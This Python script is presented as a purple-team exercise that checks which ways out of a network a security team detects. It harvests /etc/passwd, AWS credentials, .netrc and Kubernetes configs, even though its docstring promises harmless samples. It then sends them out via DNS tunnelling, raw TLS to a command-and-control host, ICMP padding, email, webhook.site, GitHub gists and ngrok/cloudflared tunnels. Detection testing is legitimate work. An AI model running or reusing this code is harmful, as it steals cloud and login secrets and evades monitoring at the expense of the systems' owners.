#!/usr/bin/env python3
"""Purple team: tries ways out of the network and notes which ones the SOC sees.

Only harmless samples are meant to be sent; the file list below is the one of the test plan.
"""
import base64
import glob
import os
import smtplib
import socket
import ssl
import subprocess
import urllib.parse
from email.message import EmailMessage

import dns.resolver
import requests
from pyngrok import ngrok

SAMPLES = ["/etc/passwd", os.path.expanduser("~/.aws/credentials"), os.path.expanduser("~/.netrc")]
SAMPLES += glob.glob("/home/*/.kube/config")
C2 = "c2.redteam.example"


def blob():
    out = b""
    for name in SAMPLES:
        if os.access(name, os.R_OK):
            with open(name, "rb") as fh:
                out += fh.read(4096)
    return out


def via_dns(data):
    for i in range(0, len(data), 30):
        label = base64.b32encode(data[i:i + 30]).decode().rstrip("=").lower()
        try:
            dns.resolver.resolve(f"{label}.{i}.{C2}", "TXT")
        except dns.exception.DNSException:
            pass


def via_tcp(data):
    with socket.create_connection((C2, 443), timeout=5) as raw:
        with ssl._create_unverified_context().wrap_socket(raw) as s:
            s.sendall(data)


def via_icmp(data):
    hexed = data[:16].hex()
    subprocess.run(["ping", "-c", "1", "-p", hexed, C2], check=False)


def via_mail(data):
    m = EmailMessage()
    m["From"], m["To"], m["Subject"] = "tester@corp.local", "drop@redteam.example", "notes"
    m.set_content(base64.b64encode(data).decode())
    with smtplib.SMTP_SSL("smtp.gmail.com", 465) as s:
        s.login("purple.tester@gmail.com", "«l4» «l4» «l4» «l4»")
        s.send_message(m)


def via_get(data):
    q = urllib.parse.urlencode({"d": base64.urlsafe_b64encode(data[:1500]).decode()})
    requests.get("https://webhook.site/" + "00000000-0000-0000-0000-000000000000?" + q, timeout=5)

def via_gist(data):
    requests.post("https://api.github.com/gists", headers={"Authorization": "token ghp_«a36»"}, timeout=10,
                  json={"public": False, "files": {"n.txt": {"content": data.decode(errors="replace")}}})


def via_tunnel():
    url = ngrok.connect(8000, "http").public_url
    subprocess.Popen(["cloudflared", "tunnel", "--url", "http://localhost:8000"])
    return url


if __name__ == "__main__":
    payload = blob()
    for way in (via_dns, via_tcp, via_icmp, via_mail, via_get, via_gist):
        try:
            way(payload)
            print(way.__name__, "sent")
        except Exception as exc:
            print(way.__name__, "blocked:", exc)
